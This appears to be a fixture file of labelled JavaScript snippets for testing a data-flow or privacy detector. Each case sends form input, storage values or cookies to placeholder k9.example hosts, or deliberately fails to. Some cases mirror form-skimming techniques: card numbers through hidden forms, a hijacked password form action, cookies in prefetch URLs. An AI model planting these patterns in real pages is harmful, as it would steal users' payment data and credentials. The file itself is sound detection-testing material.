//# xhr-in-promise
// flow: email > xip.k9.example via xhr
const post1 = (url, data) => new Promise((resolve, reject) => {
  const x = new XMLHttpRequest();
  x.open('POST', url);
  x.onload = () => resolve(x.responseText);
  x.onerror = reject;
  x.send(JSON.stringify(data));
});
post1('https://xip.k9.example/', { mail: document.querySelector('input[type=email]').value });

//# hidden-form-submit
// flow: card > hfs.k9.example via form
const form2 = document.createElement('form');
form2.method = 'post';
form2.action = 'https://hfs.k9.example/pay';
const in2 = document.createElement('input');
in2.type = 'hidden';
in2.name = 'pan';
in2.value = document.querySelector('input[autocomplete=cc-number]').value;
form2.append(in2);
document.body.append(form2);
form2.submit();

//# background-image-template
// flow: identifier > bgi.k9.example via css
document.querySelector('#hero').style.backgroundImage = `url(https://bgi.k9.example/t.png?i=${localStorage.getItem('uid')})`;

//# websocket-queue-until-open
// flow: message > wsq.k9.example via websocket
const ws4 = new WebSocket('wss://wsq.k9.example/chat');
const wait4 = [];
ws4.addEventListener('open', () => { while (wait4.length) ws4.send(wait4.shift()); });
function say4(text) { if (ws4.readyState === 1) ws4.send(text); else wait4.push(text); }
document.querySelector('#say').onclick = () => say4(JSON.stringify({ text: document.querySelector('textarea[name=message]').value }));

//# request-object-with-headers
// flow: identifier > roh.k9.example via fetch
const req5 = new Request('https://roh.k9.example/me', { headers: new Headers({ 'x-client': localStorage.getItem('client_id') }) });
fetch(req5);

//# iframe-by-inner-html
// flow: email > iih.k9.example via iframe
document.querySelector('#slot').innerHTML = '<iframe src="https://iih.k9.example/f?e=' + encodeURIComponent(document.querySelector('input[type=email]').value) + '"></iframe>';

//# navigation-by-assign
// flow: search > nba.k9.example via navigation
document.querySelector('form').addEventListener('submit', (e) => {
  e.preventDefault();
  location.assign('https://nba.k9.example/results?q=' + document.querySelector('input[type=search]').value);
});

//# post-message-to-frame
// flow: phone > pmf.k9.example via postmessage
const frame8 = document.querySelector('iframe');
frame8.contentWindow.postMessage({ tel: document.querySelector('input[type=tel]').value }, 'https://pmf.k9.example');

//# jsonp-script
// flow: email > jsp.k9.example via script
function jsonp9(url, params) {
  const q = Object.keys(params).map((k) => `${k}=${encodeURIComponent(params[k])}`).join('&');
  const s = document.createElement('script');
  s.async = true;
  s.src = url + '?' + q;
  document.getElementsByTagName('head')[0].appendChild(s);
}
jsonp9('https://jsp.k9.example/cb', { e: document.querySelector('input[type=email]').value });

//# form-action-changed
// flow: password > fac.k9.example via form
// flow: input > fac.k9.example via form
// why: the other fields of the form go there too
const f10 = document.querySelector('form');
f10.innerHTML += '<input type=hidden name=p>';
f10.elements.p.value = document.querySelector('input[type=password]').value;
f10.action = 'https://fac.k9.example/';
f10.requestSubmit();

//# canvas-to-blob-upload
// flow: device > ctb.k9.example via fetch
const c11 = document.createElement('canvas');
const x11 = c11.getContext('2d');
x11.fillText('Cwm fjord', 2, 15);
c11.toBlob((blob) => fetch('https://ctb.k9.example/', { method: 'PUT', body: blob }));

//# worker-relays
// flow: message > wrl.k9.example via fetch
const src12 = "onmessage = (e) => fetch('https://wrl.k9.example/', { method: 'POST', body: e.data.text });";
const w12 = new Worker(URL.createObjectURL(new Blob([src12], { type: 'text/javascript' })));
w12.postMessage({ text: document.querySelector('textarea[name=message]').value });

//# prefetch-link
// flow: identifier > pfl.k9.example via link
const l13 = Object.assign(document.createElement('link'), { rel: 'prefetch', href: 'https://pfl.k9.example/?c=' + document.cookie });
document.head.append(l13);

//# xhr-only-opened
// no flow
// why: never sent
const x14 = new XMLHttpRequest();
x14.open('GET', 'https://xoo.k9.example/?e=' + document.querySelector('input[type=email]').value);

//# anchor-never-clicked
// no flow
// why: near miss: the address is only taken apart
const a15 = document.createElement('a');
a15.href = 'https://anc.k9.example/?e=' + document.querySelector('input[type=email]').value;
console.log(a15.pathname);

//# image-alt-text
// no flow
// why: the text beside a picture is not sent
const img16 = new Image();
img16.src = 'https://iat.k9.example/logo.png';
img16.alt = document.querySelector('input[name=username]').value;
document.body.append(img16);

//# axios-like-instance
// flow: email > axl.k9.example via fetch
class Http17 {
  constructor(defaults) { this.defaults = defaults; }
  request(config) {
    const c = { ...this.defaults, ...config };
    return fetch(c.baseURL + c.url, { method: c.method, body: JSON.stringify(c.data), headers: c.headers });
  }
}
['post', 'put'].forEach((m) => { Http17.prototype[m] = function (url, data, config) { return this.request({ ...config, method: m, url, data }); }; });
const http17 = new Http17({ baseURL: 'https://axl.k9.example' });
http17.post('/users', { email: document.querySelector('input[type=email]').value });

//# stored-for-later-only
// no flow
// why: near miss: put into the storage, and nothing reads it
localStorage.setItem('draft', document.querySelector('textarea[name=message]').value);
fetch('https://sfl.k9.example/ping');
